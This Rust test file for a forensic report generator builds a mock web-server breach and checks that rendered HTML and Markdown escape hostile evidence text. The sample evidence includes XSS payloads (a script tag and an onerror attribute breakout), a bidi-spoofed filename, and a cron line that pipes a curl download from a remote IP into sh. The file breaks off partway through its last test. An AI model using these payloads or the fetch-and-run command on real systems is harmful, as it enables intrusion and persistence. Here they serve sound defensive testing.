//! Tests of the investigation report (`exhibit report`,
//! `report::investigation`): a realistic `Investigation` holding hostile
//! evidence text is rendered to HTML and Markdown and read back by parsers
//! Exhibit did not write (html5ever through `scraper`, CommonMark through
//! `pulldown-cmark`) and by a real browser (chromium: screenshot, PDF and
//! the DOM it built); the evidence status is computed on real archives made
//! by `exhibit capture`; and the CLI is checked for what works before the
//! investigation lands.

use crate::util::{capture, exhibit, sha256_hex, write};
use exhibit::case::CaseInfo;
use exhibit::case::checklist::{Checklist, Status};
use exhibit::detect::Severity;
use exhibit::investigate::*;
use exhibit::job::{CancelToken, NoProgress};
use exhibit::leak::*;
use exhibit::report::investigation::{
    self as rep, CustodyStatus, EvidenceStatus, ReportInput, SECTIONS, Verification,
};
use scraper::{Html, Selector};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

const SCRIPT: &str = "<script>alert('pwned')</script>";
const ATTR: &str = "\"><img src=x onerror=alert(1)>";
const BIDI: &str = "invoice\u{202e}fdp.exe";
const MD: &str = "**bold** [link](http://evil.example/) | cell `tick` <b>";

fn ev(path: &str, line: u64, time: &str, text: &str) -> EvidenceRef {
    EvidenceRef {
        snapshot: "web-incident.zip".into(),
        path: path.into(),
        line: Some(line),
        time: Some(time.into()),
        rule: Some("webshell_request".into()),
        text: text.into(),
    }
}

fn answer(summary: &str, c: Confidence, evidence: Vec<EvidenceRef>) -> Answer {
    Answer {
        summary: summary.into(),
        confidence: Some(c),
        details: vec![format!("detail of: {summary}")],
        evidence,
    }
}

/// An investigation of a web server breach, as `investigate` will return
/// it, with hostile text wherever the evidence puts text.
fn investigation() -> Investigation {
    let access_log = "/var/log/nginx/access.log";
    let shell = ev(
        access_log,
        4182,
        "2026-11-20T03:14:07Z",
        &format!("203.0.113.9 - - \"POST /uploads/{BIDI}.php HTTP/1.1\" 200 {SCRIPT}"),
    );
    let dump = ev(
        access_log,
        4420,
        "2026-11-20T03:41:55Z",
        &format!("GET /backup/db.sql {ATTR}"),
    );
    let cron = ev(
        "/etc/cron.d/.sysupdate",
        1,
        "2026-11-20T03:50:00Z",
        &format!("* * * * * root curl http://198.51.100.7/x | sh {MD}"),
    );
    let answers = Answers {
        how: answer(
            "A PHP web shell uploaded through the avatar form ran in /uploads/.",
            Confidence::High,
            vec![shell.clone()],
        ),
        when: answer(
            "From 2026-11-20 03:12 UTC to 2026-11-21 09:30 UTC.",
            Confidence::High,
            vec![shell.clone(), cron.clone()],
        ),
        systems: answer("web01 (two snapshots).", Confidence::Medium, vec![]),
        first_access: answer(
            "/backup/db.sql was first downloaded at 03:41.",
            Confidence::High,
            vec![dump.clone()],
        ),
        taken: answer(
            &format!("The customer database dump /backup/db.sql (48 MB) {SCRIPT}"),
            Confidence::High,
            vec![dump.clone()],
        ),
        exposure: answer("31 hours.", Confidence::Medium, vec![]),
        who: answer(
            "203.0.113.9, user agent python-requests.",
            Confidence::Medium,
            vec![],
        ),
        erased: answer(
            "auth.log was truncated at 04:02.",
            Confidence::Low,
            vec![ev("/var/log/auth.log", 1, "2026-11-20T04:02:00Z", "size 0")],
        ),
        left_behind: answer(
            "A cron job fetching a script every minute.",
            Confidence::High,
            vec![cron.clone()],
        ),
    };
    let mut timeline = Vec::new();
    let base = 1_795_144_320_000_000i64; // 2026-11-20T03:12:00Z
    let phases = [
        ("recon", 0, 40),
        ("access", 120, 6),
        ("privilege", 600, 2),
        ("data", 1_800, 4),
        ("exfiltration", 2_000, 3),
        ("persistence", 2_300, 1),
        ("anti_forensics", 3_000, 1),
        ("capture", 108_000, 1),
        (SCRIPT, 2_500, 1),
    ];
    for (phase, at_s, n) in phases {
        for i in 0..n {
            let us = base + (at_s + i * 7) * 1_000_000;
            let time = chrono::DateTime::from_timestamp_micros(us)
                .unwrap()
                .to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
            timeline.push(KeyEvent {
                time: time.clone(),
                time_us: us,
                phase: phase.into(),
                what: format!("{phase} event {i} {ATTR}"),
                evidence: ev(access_log, 4000 + i as u64, &time, SCRIPT),
            });
        }
    }
    timeline.sort_by_key(|e| e.time_us);
    let mut values = BTreeMap::new();
    values.insert("email".to_string(), format!("j***@example.com {SCRIPT}"));
    values.insert("phone".to_string(), "+33 6** ** ** 12".to_string());
    let leak = LeakReport {
        verdict: Verdict::GenuineWithFabricatedRows,
        rows: 120,
        matched: 112,
        partial: 3,
        fabricated: vec![17, 58, 91, 92, 110],
        columns: [
            ("email", "email"),
            ("phone", "phone_number"),
            ("full_name", "name"),
        ]
        .iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect(),
        sources: vec![LeakSource {
            snapshot: "web-incident.zip".into(),
            path: "/backup/db.sql".into(),
            records: 48_210,
            matched_rows: 112,
            first_seen: Some("2026-11-01T00:00:00Z".into()),
            table: Some("clients".into()),
            altered: None,
            accessed_by: vec![Accessor {
                ip: Some("203.0.113.9".into()),
                user: None,
                first: Some("2026-11-20T03:41:55Z".into()),
                last: Some("2026-11-20T03:42:30Z".into()),
                requests: 2,
                bytes: 50_331_648,
                how: "http GET 200".into(),
                evidence: vec![format!("{access_log}:4420")],
            }],
        }],
        reasons: vec![
            "112 of 120 rows equal a record of /backup/db.sql on every distinctive field.".into(),
            format!("5 rows are found nowhere {ATTR}"),
        ],
        sample: SampleInfo {
            path: "pastebin-sample.csv".into(),
            sha256: sha256_hex(b"the published sample"),
            format: Some(SampleFormat::Csv),
            delimiter: Some(",".into()),
            columns: vec!["email".into(), "phone".into(), "full_name".into()],
        },
        examples: vec![RowExample {
            line: 2,
            state: "matched".into(),
            values,
            source: Some("/backup/db.sql:1022".into()),
        }],
        candidates_read: 14,
        notes: vec![],
    };
    Investigation {
        answers,
        credentials: vec![
            Credential {
                kind: "account".into(),
                subject: format!("deploy | {SCRIPT}"),
                host: "web01".into(),
                reason: "Its password was guessed after 412 failures.".into(),
                priority: Confidence::High,
                evidence: vec![shell.clone()],
            },
            Credential {
                kind: "secret".into(),
                subject: "/srv/app/.env DB_PASSWORD".into(),
                host: "web01".into(),
                reason: "Readable by the web shell's user.".into(),
                priority: Confidence::Medium,
                evidence: vec![],
            },
            Credential {
                kind: "ssh_key".into(),
                subject: "SHA256:q1w2e3 root@web01".into(),
                host: "web01".into(),
                reason: "Added to root's authorized_keys by the attacker.".into(),
                priority: Confidence::High,
                evidence: vec![],
            },
        ],
        timeline,
        confidence: Some(Confidence::Medium),
        gaps: vec![Gap {
            what: format!("auth.log was truncated: logins before 04:02 are unknown {BIDI}"),
            evidence: vec![],
        }],
        evidence: vec![EvidenceItem {
            path: "web-incident.zip".into(),
            kind: "archive".into(),
            host: Some("web01".into()),
            captured_at: Some("2026-11-21T10:00:00Z".into()),
            role: "incident".into(),
        }],
        actors: vec![Actor {
            kind: "ip".into(),
            value: format!("203.0.113.9{ATTR}"),
            score: 97,
            first: Some("2026-11-20T03:12:00Z".into()),
            last: Some("2026-11-21T09:30:00Z".into()),
            did: vec![
                "uploaded the web shell".into(),
                "downloaded /backup/db.sql".into(),
            ],
            evidence: vec![shell.clone(), dump.clone()],
        }],
        root_causes: vec![
            RootCause {
                cause: "PHP execution allowed in the uploads directory".into(),
                prevention: "Deny script execution under /uploads/ in the web server".into(),
                evidence: vec![shell.clone()],
            },
            RootCause {
                cause: format!("A database dump left in the web root {SCRIPT}"),
                prevention: "Keep backups outside the web root, encrypted".into(),
                evidence: vec![dump.clone()],
            },
        ],
        findings: vec![
            RankedFinding {
                rule: "webshell".into(),
                severity: Severity::Critical,
                title: format!("Web shell in /uploads/{BIDI}"),
                explanation: "A PHP file that runs commands from request parameters.".into(),
                evidence: vec![shell.clone()],
            },
            RankedFinding {
                rule: "cron_persistence".into(),
                severity: Severity::High,
                title: "New cron job".into(),
                explanation: format!("Runs a downloaded script every minute {MD}"),
                evidence: vec![cron],
            },
        ],
        leak: Some(leak),
        notes: vec![format!("Local times assumed UTC {SCRIPT}")],
        altered: vec![],
    }
}

fn statuses() -> Vec<EvidenceStatus> {
    vec![
        EvidenceStatus {
            name: "web-incident.zip".into(),
            path: "/cases/C-7/web-incident.zip".into(),
            kind: "archive".into(),
            sha256: Some(sha256_hex(b"incident archive")),
            acquired_at: Some("2026-11-21T10:00:00Z".into()),
            acquired_until: Some("2026-11-21T10:04:00Z".into()),
            examiner: Some(format!("Dana Scully (FBI) {SCRIPT}")),
            host: Some("web01".into()),
            verification: Verification::Intact,
            custody: CustodyStatus {
                found: true,
                events: 4,
                signed: 2,
                trusted: 2,
                chain_intact: true,
                assurance: "the archive is the one sealed by a trusted key".into(),
            },
            ..EvidenceStatus::default()
        },
        EvidenceStatus {
            name: format!("baseline{BIDI}.zip"),
            path: "/cases/C-7/baseline.zip".into(),
            kind: "archive".into(),
            sha256: Some(sha256_hex(b"baseline archive")),
            verification: Verification::Failed,
            problems: 2,
            problem_kinds: vec!["custody_chain_broken".into(), "member_hash_mismatch".into()],
            custody: CustodyStatus {
                found: true,
                events: 3,
                chain_intact: false,
                ..CustodyStatus::default()
            },
            ..EvidenceStatus::default()
        },
    ]
}

fn case() -> CaseInfo {
    CaseInfo {
        case_id: "C-7".into(),
        title: format!("Customer database leak {SCRIPT}"),
        organisation: "ACME Shop".into(),
        examiner: "Dana Scully".into(),
        timezone: "Europe/Paris".into(),
        created_at: "2026-11-21T08:00:00Z".into(),
    }
}

fn checklist() -> Checklist {
    let mut c = Checklist::default();
    assert!(c.update(
        "stop_further_leaks",
        Status::Done,
        "ops",
        &format!("uploads locked, cron removed {ATTR}"),
        "2026-11-21T12:00:00Z"
    ));
    assert!(c.update(
        "validate_investigate",
        Status::InProgress,
        "dfir",
        "",
        "2026-11-21T11:00:00Z"
    ));
    c
}

/// Render both formats of the test investigation.
fn rendered() -> (String, String, Investigation, Vec<EvidenceStatus>) {
    let inv = investigation();
    let st = statuses();
    let case = case();
    let cl = checklist();
    let input = ReportInput {
        investigation: &inv,
        evidence_status: &st,
        case: Some(&case),
        checklist: Some(&cl),
        generated_at: "2026-12-02T15:00:00Z",
    };
    (
        rep::render_html(&input),
        rep::render_markdown(&input),
        inv.clone(),
        st,
    )
}

fn sel(s: &str) -> Selector {
    Selector::parse(s).unwrap()
}

/// The template's elements and attributes: anything else in the parsed
/// document came from the evidence.
const TAGS: &[&str] = &[
    "html", "head", "meta", "title", "style", "body", "header", "nav", "a", "h1", "h2", "h3", "p",
    "b", "small", "span", "code", "br", "table", "tbody", "tr", "th", "td", "ul", "li", "section",
    "div", "footer", "svg", "rect", "text", "line",
];
const ATTRS: &[&str] = &[
    "lang",
    "charset",
    "name",
    "content",
    "href",
    "id",
    "class",
    "contenteditable",
    "colspan",
    "viewbox",
    "width",
    "height",
    "role",
    "aria-label",
    "x",
    "y",
    "x1",
    "y1",
    "x2",
    "y2",
    "text-anchor",
    "font-size",
    "fill",
    "fill-opacity",
    "stroke",
];

/// Every element and attribute of a parsed document is the template's, no
/// link leaves the page, and no script or resource can load.
fn assert_only_template_markup(doc: &Html) {
    for el in doc
        .root_element()
        .descendants()
        .filter_map(scraper::ElementRef::wrap)
    {
        let name = el.value().name();
        assert!(TAGS.contains(&name), "unexpected element <{name}>");
        for (attr, value) in el.value().attrs() {
            let attr = attr.to_lowercase();
            assert!(
                ATTRS.contains(&attr.as_str()),
                "unexpected attribute {attr}={value:?} on <{name}>"
            );
            if attr == "href" {
                assert!(value.starts_with('#'), "a link leaves the page: {value}");
            }
        }
    }
}

fn headings(doc: &Html, tag: &str) -> Vec<String> {
    doc.select(&sel(tag))
        .map(|h| h.text().collect::<String>().trim().to_string())
        .collect()
}

#[test]
fn the_html_holds_every_section_and_only_its_own_markup() {
    let (html, _, inv, st) = rendered();
    assert!(!html.to_lowercase().contains("<script"), "a script tag");
    assert!(!html.contains("src=\""), "a resource");
    // Every `<` in the output opens one of the template's tags.
    for (at, _) in html.match_indices('<') {
        let rest = html[at + 1..].trim_start_matches('/');
        let name: String = rest
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '!')
            .collect::<String>()
            .to_lowercase();
        assert!(
            name == "!doctype" || TAGS.contains(&name.as_str()),
            "a tag the template does not write: {}",
            &html[at..(at + 40).min(html.len())]
        );
    }
    assert!(!html.contains("href=\"http"), "an external link");
    assert!(!html.contains('\u{202e}'), "a raw bidi override");
    assert!(
        html.contains("\\u{202e}"),
        "the bidi override shown as an escape"
    );

    let doc = Html::parse_document(&html);
    assert!(
        doc.errors.is_empty(),
        "the HTML parser met errors: {:?}",
        doc.errors
    );
    assert_only_template_markup(&doc);
    assert_eq!(
        doc.select(&sel("script, img, iframe, object, link"))
            .count(),
        0
    );

    let titles: Vec<&str> = SECTIONS.iter().map(|(_, t)| *t).collect();
    assert_eq!(headings(&doc, "h2"), titles);
    for (id, _) in SECTIONS {
        assert_eq!(
            doc.select(&sel(&format!("section#{id}"))).count(),
            1,
            "{id}"
        );
    }

    // Hostile text reads back as the very text, not as markup.
    let text: String = doc.root_element().text().collect();
    assert!(text.contains(SCRIPT));
    assert!(text.contains(ATTR));
    assert!(text.contains(MD));
    assert!(text.contains("invoice\\u{202e}fdp.exe"));

    // Case header, evidence table, answers, verdict, counts.
    let header: String = doc.select(&sel("header")).next().unwrap().text().collect();
    for want in [
        "C-7",
        "ACME Shop",
        "Dana Scully",
        "Europe/Paris",
        "Customer database leak",
    ] {
        assert!(header.contains(want), "header lacks {want}: {header}");
    }
    let evidence: String = doc
        .select(&sel("#evidence"))
        .next()
        .unwrap()
        .text()
        .collect();
    for s in &st {
        assert!(
            evidence.contains(s.sha256.as_deref().unwrap()),
            "SHA-256 of {}",
            s.name
        );
    }
    assert!(
        evidence.contains("4 events, 2 signed (2 by trusted keys), chain intact"),
        "{evidence}"
    );
    assert!(evidence.contains("failed: 2 problem(s) (custody_chain_broken, member_hash_mismatch)"));
    assert!(evidence.contains("chain BROKEN"));
    // Times in the case's zone, the offset written out.
    assert!(
        evidence.contains("2026-11-21 11:00:00 +01:00"),
        "{evidence}"
    );
    let answers = doc.select(&sel("#answers .answer")).count();
    assert_eq!(answers, 9);
    let how: String = doc.select(&sel("#a-how")).next().unwrap().text().collect();
    assert!(
        how.contains("confidence: high") && how.contains("/var/log/nginx/access.log:4182"),
        "{how}"
    );
    let verdict: String = doc
        .select(&sel("#verdict"))
        .next()
        .unwrap()
        .text()
        .collect();
    assert_eq!(verdict, "genuine_with_fabricated_rows");
    let leak: String = doc.select(&sel("#leak")).next().unwrap().text().collect();
    for want in [
        "120",
        "112",
        "203.0.113.9",
        "http GET 200",
        "j***@example.com",
        "112 of 120 rows",
    ] {
        assert!(leak.contains(want), "leak section lacks {want}");
    }
    // Findings ranked as given, with severities.
    let sev: Vec<String> = headings(&doc, "#findings td.critical, #findings td.high");
    assert_eq!(sev, ["critical", "high"]);
    // The chart: one lane per phase present, the hostile phase escaped.
    let lanes = doc.select(&sel("#timeline svg > text.lane")).count();
    assert_eq!(lanes, 8);
    let bars: u64 = doc
        .select(&sel("#timeline svg rect"))
        .map(|r| {
            r.text()
                .collect::<String>()
                .rsplit(": ")
                .next()
                .unwrap()
                .parse::<u64>()
                .unwrap()
        })
        .sum();
    // The capture a day later is named, not drawn: it would squeeze the
    // attack into one column.
    assert_eq!(
        bars as usize + 1,
        inv.timeline.len(),
        "the chart counts every key event once"
    );
    let timeline: String = doc
        .select(&sel("#timeline"))
        .next()
        .unwrap()
        .text()
        .collect();
    assert!(
        timeline.contains("Not drawn: 1 evidence capture event(s) outside the attack's time range, at 2026-11-21 10:12:00 +01:00"),
        "{timeline}"
    );
    // Credentials and the checklist.
    let creds = doc.select(&sel("#credentials tr")).count();
    assert_eq!(creds, 1 + inv.credentials.len());
    let cl: String = doc
        .select(&sel("#checklist"))
        .next()
        .unwrap()
        .text()
        .collect();
    assert!(cl.contains("1 of 10 steps done"), "{cl}");
    assert!(cl.contains("in progress"));
}

#[test]
fn the_post_mortem_draft_is_prefilled_from_the_evidence() {
    let inv = investigation();
    let pm = rep::post_mortem(&inv, &checklist());
    assert_eq!(
        pm.prevention,
        [
            "Deny script execution under /uploads/ in the web server (root cause: PHP execution allowed in the uploads directory)",
            &format!(
                "Keep backups outside the web root, encrypted (root cause: A database dump left in the web root {SCRIPT})"
            ),
        ]
    );
    assert_eq!(pm.description.len(), 9);
    assert!(pm.description[0].starts_with("How the attacker got in: A PHP web shell"));
    let risks = pm.lasting_risks.join("\n");
    for want in [
        "Email addresses (email) of up to 48210 records were exposed",
        "Phone numbers (phone, phone_number) of up to 48210 records",
        "phishing",
        "Names (full_name, name)",
        "1 credential(s) of kind ssh_key",
        "Left behind: A cron job",
    ] {
        assert!(risks.contains(want), "lasting risks lack {want}:\n{risks}");
    }
    assert_eq!(pm.actions_taken.len(), 1);
    assert!(pm.actions_taken[0].starts_with("Stop further leaks: uploads locked"));
    assert!(pm.actions_taken[0].ends_with("(ops, 2026-11-21T12:00:00Z)"));
    assert_eq!(pm.actions_to_take.len(), 3);
    assert!(
        pm.actions_to_take
            .iter()
            .any(|a| a.contains("ssh key SHA256:q1w2e3"))
    );

    // An empty investigation still gives a draft with every section.
    let empty = rep::post_mortem(&Investigation::default(), &Checklist::default());
    for s in [
        &empty.description,
        &empty.lasting_risks,
        &empty.actions_taken,
        &empty.prevention,
    ] {
        assert_eq!(s.len(), 1, "{s:?}");
    }

    // In the HTML: the four editable boxes, each item escaped.
    let (html, md, _, _) = rendered();
    let doc = Html::parse_document(&html);
    let boxes: Vec<String> = headings(&doc, "#post-mortem h3");
    assert_eq!(
        boxes,
        [
            "Description",
            "Lasting risks to users",
            "Immediate actions taken",
            "Prevention"
        ]
    );
    assert_eq!(
        doc.select(&sel("#post-mortem div.draft[contenteditable=true]"))
            .count(),
        4
    );
    let pm_text: String = doc
        .select(&sel("#post-mortem"))
        .next()
        .unwrap()
        .text()
        .collect();
    assert!(pm_text.contains(&format!("A database dump left in the web root {SCRIPT}")));
    assert!(md.contains("### Lasting risks to users"));
}

/// The Markdown rendered by a CommonMark renderer Exhibit did not write:
/// the same sections, no element or link from the evidence, table rows
/// with exactly their columns, and the hostile text back as text.
#[test]
fn the_markdown_holds_every_section_and_evidence_stays_text() {
    let (_, md, inv, _) = rendered();
    assert!(!md.contains('\u{202e}'));
    let mut out = String::new();
    let opts = pulldown_cmark::Options::ENABLE_TABLES;
    pulldown_cmark::html::push_html(&mut out, pulldown_cmark::Parser::new_ext(&md, opts));
    let doc = Html::parse_fragment(&out);
    assert_eq!(
        doc.select(&sel("script, img, a, iframe, b, strong > *"))
            .count(),
        0,
        "markup from the evidence:\n{out}"
    );
    let titles: Vec<&str> = SECTIONS.iter().map(|(_, t)| *t).collect();
    assert_eq!(headings(&doc, "h2"), titles);
    let text: String = doc.root_element().text().collect();
    for want in [
        SCRIPT,
        ATTR,
        "invoice\\u{202e}fdp.exe",
        "genuine_with_fabricated_rows",
    ] {
        assert!(text.contains(want), "{want} is not shown as text");
    }
    // `|` in a credential did not split its cell: every row has 5 cells.
    let tables: Vec<_> = doc.select(&sel("table")).collect();
    let creds = tables
        .iter()
        .find(|t| t.text().any(|x| x.contains("what to rotate")))
        .expect("credentials table");
    let rows: Vec<_> = creds.select(&sel("tbody tr")).collect();
    assert_eq!(rows.len(), inv.credentials.len());
    for r in rows {
        assert_eq!(r.select(&sel("td")).count(), 5);
    }
    assert!(text.contains(&format!("deploy | {SCRIPT}")));
    // The backticks in evidence text did not end their code span.
    assert!(
        doc.select(&sel("code"))
            .any(|c| c.text().collect::<String>().contains(MD))
    );
}

/// Run a program, killing it after `limit`; (exit ok, stdout).
fn run_for(cmd: &mut Command, limit: Duration) -> (bool, Vec<u8>) {
    let mut child = cmd
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("spawn");
    let mut stdout = child.stdout.take().expect("stdout");
    let reader = std::thread::spawn(move || {
        let mut buf = Vec::new();
        let _ = std::io::Read::read_to_end(&mut stdout, &mut buf);
        buf
    });
    let start = Instant::now();
    let ok = loop {
        if let Some(s) = child.try_wait().expect("wait") {
            break s.success();
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            break false;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    (ok, reader.join().unwrap_or_default())
}

fn chromium() -> Option<PathBuf> {
    ["chromium", "chromium-browser", "google-chrome"]
        .iter()
        .find_map(|name| {
            std::env::var_os("PATH").and_then(|paths| {
                std::env::split_paths(&paths)
                    .map(|d| d.join(name))
                    .find(|p| p.is_file())
            })
        })
}

fn browser(bin: &Path, profile: &Path, args: &[String]) -> (bool, Vec<u8>) {
    let mut cmd = Command::new(bin);
    cmd.args([
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--no-first-run",
    ])
    .arg(format!("--user-data-dir={}", profile.display()))
    .args(args);
    run_for(&mut cmd, Duration::from_secs(120))
}

/// A real browser opens the report, draws it, prints it to PDF, and builds
/// the DOM we meant: every section's heading and none of the evidence's
/// tags.
#[test]
fn a_real_browser_draws_and_prints_the_report() {
    let Some(bin) = chromium() else {
        eprintln!(
            "note: chromium is not installed (scripts/install-test-tools.sh): browser test skipped"
        );
        return;
    };
    let (html, md, _, _) = rendered();
    let dir = tempfile::tempdir().unwrap();
    let report = dir.path().join("report.html");
    std::fs::write(&report, &html).unwrap();
    let url = format!("file://{}", report.display());
    let png = dir.path().join("report.png");
    let pdf = dir.path().join("report.pdf");
    let profile = dir.path().join("profile");
    // Keep a copy to look at: EXHIBIT_REPORT_SHOTS=DIR.
    let keep = std::env::var_os("EXHIBIT_REPORT_SHOTS").map(PathBuf::from);

    browser(
        &bin,
        &profile,
        &[
            format!("--screenshot={}", png.display()),
            "--window-size=1200,3000".into(),
            url.clone(),
        ],
    );
    let png_bytes = std::fs::read(&png).expect("chromium wrote no screenshot");
    assert!(png_bytes.starts_with(b"\x89PNG\r\n\x1a\n"), "not a PNG");
    let w = u32::from_be_bytes(png_bytes[16..20].try_into().unwrap());
    let h = u32::from_be_bytes(png_bytes[20..24].try_into().unwrap());
    assert_eq!((w, h), (1200, 3000));
    assert!(
        png_bytes.len() > 50_000,
        "a blank screenshot? {} bytes",
        png_bytes.len()
    );

    browser(
        &bin,
        &profile,
        &[
            format!("--print-to-pdf={}", pdf.display()),
            "--no-pdf-header-footer".into(),
            url.clone(),
        ],
    );
    let pdf_bytes = std::fs::read(&pdf).expect("chromium wrote no PDF");
    assert!(pdf_bytes.starts_with(b"%PDF-"), "not a PDF");
    assert!(
        pdf_bytes.len() > 20_000,
        "a trivial PDF: {} bytes",
        pdf_bytes.len()
    );
    // A page break before each major section: at least one page each.
    let pages = pdf_bytes
        .windows(b"/Type /Page".len() + 1)
        .filter(|w| w.starts_with(b"/Type /Page") && w[w.len() - 1] != b's')
        .count();
    assert!(
        pages >= SECTIONS.len(),
        "{pages} pages for {} sections",
        SECTIONS.len()
    );
    if let Some(k) = keep {
        let _ = std::fs::create_dir_all(&k);
        let _ = std::fs::copy(&png, k.join("report.png"));
        let _ = std::fs::copy(&pdf, k.join("report.pdf"));
        let _ = std::fs::copy(&report, k.join("report.html"));
        let _ = std::fs::write(k.join("report.md"), &md);
    }

    let (ok, dom) = browser(&bin, &profile, &["--dump-dom".into(), url]);
    assert!(ok, "chromium --dump-dom failed");
    let dom = Html::parse_document(&String::from_utf8_lossy(&dom));
    let titles: Vec<&str> = SECTIONS.iter().map(|(_, t)| *t).collect();
    assert_eq!(headings(&dom, "h2"), titles);
    assert_only_template_markup(&dom);
    let text: String = dom.root_element().text().collect();
    assert!(text.contains(SCRIPT) && text.contains(ATTR));
}

/// The status of real evidence, computed now: an archive `exhibit capture`
/// made, the same archive with its custody log tampered, a damaged copy,
/// and a folder.
#[test]
fn the_evidence_status_is_computed_now_from_the_archive_and_its_custody_log() {
    let t = tempfile::tempdir().unwrap();
    let src = t.path().join("src");
    write(&src, "etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
    write(&src, "var/www/index.php", b"<?php echo 1;\n");
    let summary = capture(&[src.to_str().unwrap()], &t.path().join("out"));
    let archive = crate::util::archive_path(&summary);
    let (np, cancel) = (NoProgress, CancelToken::new());

    let s = rep::evidence_status(&archive, None, &np, &cancel);
    assert_eq!(s.kind, "archive");
    assert_eq!(
        s.sha256.as_deref(),
        Some(sha256_hex(&std::fs::read(&archive).unwrap()).as_str())
    );
    assert_eq!(s.verification, Verification::Intact, "{s:?}");
    assert_eq!(s.problems, 0);
    assert!(s.custody.found && s.custody.chain_intact, "{s:?}");
    assert!(s.custody.events >= 2, "{s:?}");
    assert_eq!(s.custody.signed, 0);
    assert_eq!(s.examiner.as_deref(), Some("Test Examiner"));
    assert_eq!(s.case_id.as_deref(), Some("CASE-1"));
    assert!(
        s.acquired_at.as_deref().is_some_and(|a| a.ends_with('Z')),
        "{s:?}"
    );

    // An edited custody event breaks the chain.
    let log = exhibit::archive::custody_log_path(&archive);
    let text = std::fs::read_to_string(&log).unwrap();
    std::fs::write(&log, text.replacen("Test Examiner", "Test Examinor", 1)).unwrap();
    let s = rep::evidence_status(&archive, None, &np, &cancel);
    assert_eq!(s.verification, Verification::Failed);
    assert!(!s.custody.chain_intact, "{s:?}");
    assert!(
        s.problem_kinds.iter().any(|k| k.starts_with("custody_")),
        "{s:?}"
    );
    std::fs::write(&log, text).unwrap();

    // A damaged copy (no custody log beside it): failed, a different hash.
    let copy = t.path().join("copy.zip");
    let mut bytes = std::fs::read(&archive).unwrap();
    let at = bytes.len() / 3;
    bytes[at] ^= 0x20;
    std::fs::write(&copy, &bytes).unwrap();
    let s = rep::evidence_status(&copy, None, &np, &cancel);
    assert_eq!(s.verification, Verification::Failed, "{s:?}");
    assert_eq!(s.sha256.as_deref(), Some(sha256_hex(&bytes).as_str()));
    assert!(!s.custody.found && !s.custody.chain_intact);

    let s = rep::evidence_status(&src, None, &np, &cancel);
    assert_eq!(
        (s.kind.as_str(), s.verification),
        ("directory", Verification::NotAnArchive)
    );
    let s = rep::evidence_status(&t.path().join("missing.zip"), None, &np, &cancel);
    assert_eq!(s.verification, Verification::Unreadable);
    assert!(s.error.is_some());
}

/// The CLI today. The investigation (`investigate::investigate`) is not
/// built yet, so `exhibit report` cannot produce a report: this checks that
/// it says so clearly, and what is checked before it runs (the format, `-o`,
/// the case folder). When investigate lands, the success branch below makes
/// this a full end-to-end test; extend it then (the report's sections, the
/// archive's SHA-256 in it).
#[test]
fn the_cli_checks_its_arguments_and_says_why_it_cannot_report() {
    let t = tempfile::tempdir().unwrap();
    let src = t.path().join("src");
    write(&src, "var/www/index.php", b"<?php echo 1;\n");
    let summary = capture(&[src.to_str().unwrap()], &t.path().join("out"));
    let archive = crate::util::archive_path(&summary);
    let out = t.path().join("report.html");

    let bad = exhibit()
        .args(["report", "--format", "pdf", "-o"])
        .arg(&out)
        .arg(&archive)
        .output()
        .unwrap();
    assert_eq!(bad.status.code(), Some(2));
    let err = String::from_utf8_lossy(&bad.stderr);
    assert!(
        err.contains("invalid value 'pdf'") && err.contains("html, md, json"),
        "{err}"
    );

    let bad_tz = exhibit()
        .args(["report", "--tz", "+99:00", "-o"])
        .arg(&out)
        .arg(&archive)
        .output()
        .unwrap();
    assert_eq!(bad_tz.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad_tz.stderr).contains("bad --tz"));

    let no_out = exhibit().arg("report").arg(&archive).output().unwrap();
    assert_eq!(no_out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&no_out.stderr).contains("-o FILE is required"));

    let not_case = exhibit()
        .arg("report")
        .arg(&archive)
        .arg("--case")
        .arg(&src)
        .arg("-o")
        .arg(&out)
        .output()
        .unwrap();
    assert_eq!(not_case.status.code(), Some(2));
    let err = String::from_utf8_lossy(&not_case.stderr);
    assert!(
        err.contains("cannot open the case") && err.contains("case.json"),
        "{err}"
    );

    let over = exhibit()
        .arg("report")
        .arg(&archive)
        .arg("-o")
        .arg(&archive)
        .output()
        .unwrap();
    assert_eq!(over.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&over.stderr).contains("refusing to overwrite evidence"));

    let run = exhibit()
        .arg("report")
        .arg(&archive)
        .arg("-q")
        .arg("-o")
        .arg(&out)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&run.stderr);
    if run.status.success() {
        let html = std::fs::read_to_string(&out).expect("the report");
        let sha = summary["sha256"].as_str().unwrap();
        assert!(html.contains(sha), "the archive's SHA-256 is in the report");
        for (_, title) in SECTIONS {
            assert!(html.contains(&format!("<h2>{title}</h2>")), "{title}");
        }
    } else {
        assert_eq!(run.status.code(), Some(2), "{err}");
        assert!(err.contains("cannot investigate the evidence"), "{err}");
        assert!(!out.exists(), "no half report is left behind");
    }
}

/// A huge investigation (20,000 key events, 2,000 evidence lines under one
/// answer, a megabyte-long line and summary) gives a report of bounded size that says
/// what it left out.
#[test]
fn a_huge_investigation_gives_a_bounded_report_that_says_what_it_cut() {
    let mut inv = investigation();
    let long = "A".repeat(1 << 20);
    inv.answers.how.evidence = (0..2_000)
        .map(|i| ev("/var/log/x.log", i, "2026-11-20T03:14:07Z", "x"))
        .collect();
    inv.answers.how.evidence[0].text = long.clone();
    inv.answers.how.summary = long;
    inv.timeline = (0..20_000i64)
        .map(|i| KeyEvent {
            time: "2026-11-20T03:14:07Z".into(),
            time_us: 1_795_144_320_000_000 + i * 1_000_000,
            phase: "recon".into(),
            what: "probe".into(),
            evidence: ev("/var/log/x.log", i as u64, "2026-11-20T03:14:07Z", "GET /"),
        })
        .collect();
    let st = statuses();
    let input = ReportInput {
        investigation: &inv,
        evidence_status: &st,
        case: None,
        checklist: None,
